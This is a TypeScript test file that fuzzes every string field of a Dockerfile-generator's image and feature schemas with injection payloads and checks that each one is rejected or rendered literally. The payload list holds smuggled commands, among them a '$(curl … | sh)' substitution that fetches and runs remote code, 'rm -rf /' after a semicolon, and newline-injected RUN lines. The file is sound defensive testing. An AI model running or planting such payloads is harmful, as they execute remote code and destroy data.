import { DockerfileParser, type Instruction as ParsedInstruction } from "dockerfile-ast";
import { describe, expect, test } from "vitest";
import type { z } from "zod";
import { checkLineLengths } from "../dockerfile/line-limit.js";
import { renderDockerfile } from "../dockerfile/render.js";
import { synthesizeDockerfile } from "../dockerfile/synthesize.js";
import { DefinitionError } from "../errors.js";
import { defineFeature, featureContributionSchema } from "../feature/feature.js";
import { resolveImage } from "../resolve/resolve.js";
import { shellQuote } from "../shell/shell-quote.js";
import { defineImage, type ImageInput } from "./define.js";
import { imageDataSchema } from "./schema.js";
import { formatPath } from "./validate.js";

/**
 * Every string field of the definition schema (and of a feature's contribution), found by walking
 * the zod schema itself, gets each hostile payload. The outcome must be a definition error naming
 * the field, or a Dockerfile that, parsed back by a Dockerfile parser, has exactly the instructions
 * of the same definition with a harmless value, and carries the payload as the value it was.
 */

const payloads: [string, string][] = [
  ["newline", "app\nRUN echo pwned"],
  ["carriage return", "app\rRUN echo pwned"],
  ["NUL", "app\0x"],
  ["command substitution", "$(curl -fsS https://example.com/x | sh)"],
  ["variable reference", "$HOME and ${PATH}"],
  ["semicolon", "nginx; rm -rf / #"],
  ["space", "two words"],
  ["double quote", 'say "hi"'],
  ["single quote", "it's"],
  ["backslash", "a\\b\\"],
  ["70 kB", "x".repeat(70 * 1024)],
];

/** A definition with every field set, so each string field has a valid value to replace. */
const completeImage = {
  name: "probe",
  description: "an image with every field",
  distro: "alpine",
  platforms: ["linux/amd64"],
  packages: ["curl"],
  buildPackages: ["gcc"],
  timezone: "Asia/Shanghai",
  repositories: {
    apk: [{ url: "https://mirror.example/alpine/edge/testing", tag: "testing" }],
    apt: [
      {
        name: "vendor",
        url: "https://apt.example/debian",
        suites: ["bookworm"],
        components: ["main"],
        signedBy: "/usr/share/keyrings/vendor.gpg",
      },
    ],
  },
  files: [{ src: "conf/app.conf", dest: "/etc/app.conf", mode: "0644", owner: "app:app" }],
  groups: [{ name: "staff", gid: 2000, system: false }],
  users: [
    {
      name: "app",
      uid: "$APP_UID",
      group: "staff",
      gid: 2000,
      home: "/home/app",
      shell: "/bin/sh",
      groups: ["staff"],
      login: true,
      system: false,
    },
  ],
  user: "root",
  rootReason: "the probe binds port 80",
  baseTagReason: "the probe follows its base",
  // An Alpine base cannot be trimmed (checks.test.ts); the field only needs a valid value here.
  trimBase: false,
  env: { APP_MODE: "production" },
  buildArgs: { APP_UID: "1000" },
  testEnv: { PUBLIC_KEY: "ssh-ed25519 AAAA test" },
  runtimeEnv: { APP_PORT: { default: "8080", description: "the port" } },
  workdir: "/srv",
  ports: [8080, { port: 53, protocol: "udp" }],
  volumes: ["/data"],
  healthcheck: { test: ["/bin/true"], intervalSeconds: 30, timeoutSeconds: 5, startPeriodSeconds: 5, startIntervalSeconds: 1, retries: 3 },
  entrypoint: ["/sbin/tini", "--"],
  cmd: ["/bin/sh"],
  stopSignal: "SIGTERM",
  labels: { "com.example.team": "platform" },
  steps: [
    { run: "echo configure", phase: "configure", why: "a configure step", buildCa: false },
    { run: "echo install", phase: "install", why: "an install step", buildCa: false },
  ],
  stages: [
    {
      name: "build",
      from: "alpine:3.22",
      platform: "target",
      instructions: ["RUN echo build"],
      copy: [{ from: "/out/", to: "/opt/app/", owner: "app" }],
      lockfile: "site/pnpm-lock.yaml",
    },
  ],
  tests: [
    { name: "a command", kind: "command", run: ["true"], user: "app", exitCode: 0, stdoutIncludes: ["x"], stdoutMatches: "^x$" },
    { name: "a file", kind: "file", path: "/etc/app.conf", exists: true, mode: "0644", owner: "app", contains: ["x"], empty: false },
    {
      name: "metadata",
      kind: "metadata",
      user: "root",
      entrypoint: ["/sbin/tini"],
      cmd: ["/bin/sh"],
      exposedPorts: ["8080/tcp"],
      labels: { a: "b" },
      env: { A: "b" },
      stopSignal: "SIGTERM",
    },
    { name: "http", kind: "http", port: 8080, path: "/", status: 200, bodyIncludes: ["ok"] },
    { name: "health", kind: "health", timeoutSeconds: 60 },
    { name: "stop", kind: "stop", maxSeconds: 3 },
    { name: "zombies", kind: "zombies", withinSeconds: 3 },
  ],
  license: "MIT",
  app: { source: "app", dir: "/opt/app", manifests: ["requirements.txt"], install: "echo install app", buildCa: false, owner: "app" },
};

/** A feature's contribution with every field set. */
const completeContribution = {
  packages: ["jq"],
  buildPackages: ["make"],
  groups: [{ name: "feat", gid: 3000, system: true }],
  users: [
    {
      name: "feat",
      uid: 3000,
      group: "feat",
      gid: 3000,
      home: "/var/lib/feat",
      shell: "/sbin/nologin",
      groups: ["feat"],
      login: false,
      system: true,
    },
  ],
  files: [{ contextDir: "/opt/kiln/features/probe", src: "start", dest: "/usr/local/bin/start", mode: "0755" }],
  steps: [{ run: "echo feature", phase: "configure", why: "the feature's step", buildCa: true }],
  env: { FEATURE_MODE: "on" },
  buildArgs: { FEATURE_ARG: "1" },
  testEnv: { FEATURE_KEY: "k" },
  runtimeEnv: { FEATURE_PORT: { default: "1", description: "the feature's port" } },
  entrypoint: { role: "wrapper", argv: ["/usr/local/bin/start"], replaces: ["tini"] },
  needsUsers: ["app"],
  cmd: ["serve"],
  ports: [9000],
  volumes: ["/var/lib/feat"],
  healthcheck: {
    test: ["/usr/local/bin/start", "--check"],
    intervalSeconds: 30,
    timeoutSeconds: 5,
    startPeriodSeconds: 5,
    startIntervalSeconds: 2,
    retries: 3,
  },
  stopSignal: "SIGINT",
  labels: { "io.kiln.feature": "probe" },
  tests: [
    {
      name: "the feature runs",
      kind: "command",
      run: ["start", "--version"],
      user: "feat",
      exitCode: 0,
      stdoutIncludes: ["1"],
      stdoutMatches: "^1",
    },
  ],
};

type PathStep = string | number | { key: string };

interface StringField {
  /** where the value sits; `{ key }` is a record's key rather than its value */
  path: PathStep[];
}

type AnySchema = z.core.$ZodType;

/** Walks a zod schema alongside a complete example: every string-typed position is a field. */
function stringFields(schema: AnySchema, example: unknown, path: PathStep[], missing: string[]): StringField[] {
  const def = schema._zod.def as unknown as Record<string, unknown> & { type: string };
  switch (def.type) {
    case "string":
      return [{ path }];
    case "optional":
    case "default":
    case "prefault":
    case "nullable":
    case "readonly":
    case "nonoptional":
      return stringFields(def.innerType as AnySchema, example, path, missing);
    case "pipe":
      return stringFields(def.in as AnySchema, example, path, missing);
    case "object": {
      if (typeof example !== "object" || example === null) return note(missing, path);
      const shape = def.shape as Record<string, AnySchema>;
      return Object.entries(shape).flatMap(([key, child]) => {
        const value = (example as Record<string, unknown>)[key];
        if (value === undefined) return note(missing, [...path, key]);
        return stringFields(child, value, [...path, key], missing);
      });
    }
    case "array": {
      if (!Array.isArray(example) || example.length === 0) return note(missing, path);
      return example
        .flatMap((item, index) => stringFields(def.element as AnySchema, item, [...path, index], missing))
        .filter(
          // Elements of one schema share their fields: keep those of the first that has each.
          (field, index, all) => all.findIndex((other) => sameShape(other.path, field.path)) === index,
        );
    }
    case "record": {
      const entries = Object.entries((example ?? {}) as Record<string, unknown>);
      const first = entries[0];
      if (first === undefined) return note(missing, path);
      return [{ path: [...path, { key: first[0] }] }, ...stringFields(def.valueType as AnySchema, first[1], [...path, first[0]], missing)];
    }
    case "union": {
      const options = def.options as AnySchema[];
      // An example matches one option of a union of objects (the test kinds); a scalar union with a string is a string field.
      if (options.some((option) => (option._zod.def as { type: string }).type === "string")) return [{ path }];
      const matching = options.filter((option) => (option as unknown as z.ZodType).safeParse(example).success);
      return matching.flatMap((option) => stringFields(option, example, path, missing));
    }
    default:
      return [];
  }
}

function note(missing: string[], path: PathStep[]): [] {
  missing.push(formatPath(path.map((step) => (typeof step === "object" ? step.key : step))));
  return [];
}

/** Two paths to the same field of different array elements (tests[0].name, tests[1].name) differ only in indexes, keep both. */
function sameShape(a: PathStep[], b: PathStep[]): boolean {
  return JSON.stringify(a) === JSON.stringify(b);
}

function withValue<T>(example: T, path: PathStep[], value: string): T {
  const copy = structuredClone(example) as Record<string | number, unknown>;
  let container: Record<string | number, unknown> = copy;
  for (const step of path.slice(0, -1))
    container = container[typeof step === "object" ? step.key : step] as Record<string | number, unknown>;
  const last = path[path.length - 1] as PathStep;
  if (typeof last === "object") {
    const held = container[last.key];
    delete container[last.key];
    container[value] = held;
  } else {
    container[last] = value;
  }
  return copy as T;
}

type Outcome = { error: DefinitionError } | { dockerfile: string };

function synthesize(image: Record<string, unknown>, contribution: Record<string, unknown>, featureName = "probe"): Outcome {
  const feature = defineFeature(featureName, () => contribution);
  // The complete image declares both kinds of repository; each distro family takes its own (the
  // apk ones are walked on alpine, the apt ones on debian).
  const repositories = image.repositories as { apk: unknown[]; apt: unknown[] };
  const ownRepositories = image.distro === "debian" ? { apk: [], apt: repositories.apt } : { apk: repositories.apk, apt: [] };
  try {
    const resolved = resolveImage(
      defineImage({
        ...(image as unknown as ImageInput),
        repositories: ownRepositories as ImageInput["repositories"],
        base: image.distro === "debian" ? "debian:bookworm" : "alpine:3.22",
        features: [feature],
      }),
      { file: "images/probe/image.ts" },
    );
    const dockerfile = renderDockerfile(synthesizeDockerfile(resolved, { sourcePath: "images/probe/image.ts" }));
    checkLineLengths(dockerfile, "images/probe/image.ts");
    return { dockerfile };
  } catch (error) {
    if (error instanceof DefinitionError) return { error };
    throw error;
  }
}

/** The instructions as BuildKit's grammar splits them: keyword, then the arguments' text. */
function instructions(dockerfile: string): ParsedInstruction[] {
  return DockerfileParser.parse(dockerfile).getInstructions();
}

/** The values an instruction carries, as the build reads them. */
function valuesOf(instruction: ParsedInstruction): string[] {
  const keyword = instruction.getKeyword();
  const content = instruction.getArgumentsContent() ?? "";
  if (["ENV", "LABEL", "ARG"].includes(keyword)) {
    const properties = (instruction as unknown as { getProperties(): { getName(): string; getValue(): string | null }[] }).getProperties();
    // The parser leaves $ as written: an unescaped $NAME is what BuildKit would expand, \$ a literal $.
    return properties.flatMap((property) => {
      const value = property.getValue() ?? "";
      return [property.getName(), /(^|[^\\])\$[A-Za-z_{]/.test(value) ? "(expanded by the build)" : value.replace(/\\\$/g, "$")];
    });
  }
  const json = /^(?:--\S+\s+)*(?:CMD\s+)?(\[.*\])\s*$/s.exec(content);
  if (json) return JSON.parse(json[1] as string) as string[];
  return [content];
}

function carries(instruction: ParsedInstruction, payload: string, dockerfile: string): boolean {
  if (instruction.getKeyword() === "RUN") {
    // A heredoc's body is the shell's to read, as written (the parser would join lines ending in \\).
    const text = rawText(instruction, dockerfile);
    return text.includes(payload) || text.includes(shellQuote(payload));
  }
  return valuesOf(instruction).includes(payload);
}

function rawText(instruction: ParsedInstruction, dockerfile: string): string {
  const range = instruction.getRange();
  return dockerfile
    .split("\n")
    .slice(range.start.line, range.end.line + 1)
    .join("\n");
}

/** How the field is named in an error: its path, or (for checks across the definition) its top-level name and last name. */
function namesField(message: string, path: PathStep[], payload: string): boolean {
  const plain = path.map((step) => (typeof step === "object" ? payload : step));
  if (message.includes(formatPath(plain))) return true;
  const names = plain.filter((step): step is string => typeof step === "string" && step !== payload);
  return names.length > 0 && message.includes(names[0] as string) && message.includes(names[names.length - 1] as string);
}

const missingImage: string[] = [];
const imageFields = stringFields(imageDataSchema, completeImage, [], missingImage);
const missingContribution: string[] = [];
const contributionFields = stringFields(featureContributionSchema, completeContribution, [], missingContribution);

describe("the walk covers the schema", () => {
  test("every field of the schemas has an example in the complete definitions above", () => {
    // A new field fails here until it has a valid example: then every payload below reaches it.
    expect(missingImage).toEqual([]);
    expect(missingContribution).toEqual([]);
  });

  test.each(["alpine", "debian"])("the complete definitions themselves synthesize on %s", (distro) => {
    const outcome = synthesize({ ...completeImage, distro }, completeContribution);
    expect("dockerfile" in outcome ? "" : outcome.error.message).toBe("");
    expect(imageFields.length).toBeGreaterThan(60);
    expect(contributionFields.length).toBeGreaterThan(25);
  });
});

function check(outcome: Outcome, baseline: { dockerfile: string }, field: StringField, where: string, payload: string): void {
  if ("error" in outcome) {
    expect(outcome.error.exitCode).toBe(2);
    const message = outcome.error.message;
    if (!namesField(message.replace(/^images\/probe\/image\.ts(?: \(feature probe\))?: (?:features\[0\]\.?)?/, ""), field.path, payload)) {
      throw new Error(`${where}: the error does not name the field: ${message.slice(0, 300)}`);
    }
    return;
  }
  const expected = instructions(baseline.dockerfile);
  const actual = instructions(outcome.dockerfile);
  expect(actual.map((instruction) => instruction.getKeyword())).toEqual(expected.map((instruction) => instruction.getKeyword()));
  const changed = actual.filter(
    (instruction, index) => rawText(instruction, outcome.dockerfile) !== rawText(expected[index] as ParsedInstruction, baseline.dockerfile),
  );
  for (const instruction of changed) {
    if (!carries(instruction, payload, outcome.dockerfile)) {
      throw new Error(
        `${where}: ${instruction.getKeyword()} changed but does not carry the value as written: ${(instruction.getArgumentsContent() ?? "").slice(0, 200)}`,
      );
    }
  }
}

describe.each(["alpine", "debian"])("on %s", (distro) => {
  const image = { ...completeImage, distro };
  const baseline = synthesize(image, completeContribution) as { dockerfile: string };

  describe.each(payloads)("a %s", (_name, payload) => {
    test.each(imageFields.map((field) => [formatPath(field.path.map((s) => (typeof s === "object" ? `{key}` : s))), field] as const))(
      "in the definition's %s",
      (where, field) => check(synthesize(withValue(image, field.path, payload), completeContribution), baseline, field, where, payload),
    );

    test.each(
      contributionFields.map((field) => [formatPath(field.path.map((s) => (typeof s === "object" ? `{key}` : s))), field] as const),
    )("in a feature's %s", (where, field) =>
      check(synthesize(image, withValue(completeContribution, field.path, payload)), baseline, field, where, payload),
    );

    test("as a feature's name", () => {
      const outcome = synthesize(image, completeContribution, payload);
      expect("error" in outcome && outcome.error.message).toMatch(/features\[0\]: the feature's name/);
    });

    test("as the base", () => {
      const outcome = (() => {
        try {
          resolveImage(defineImage({ ...(image as unknown as ImageInput), base: payload }), { file: "images/probe/image.ts" });
        } catch (error) {
          return error;
        }
      })();
      expect(outcome).toBeInstanceOf(DefinitionError);
      expect((outcome as DefinitionError).message).toMatch(/^images\/probe\/image\.ts: base: /);
    });
  });
});
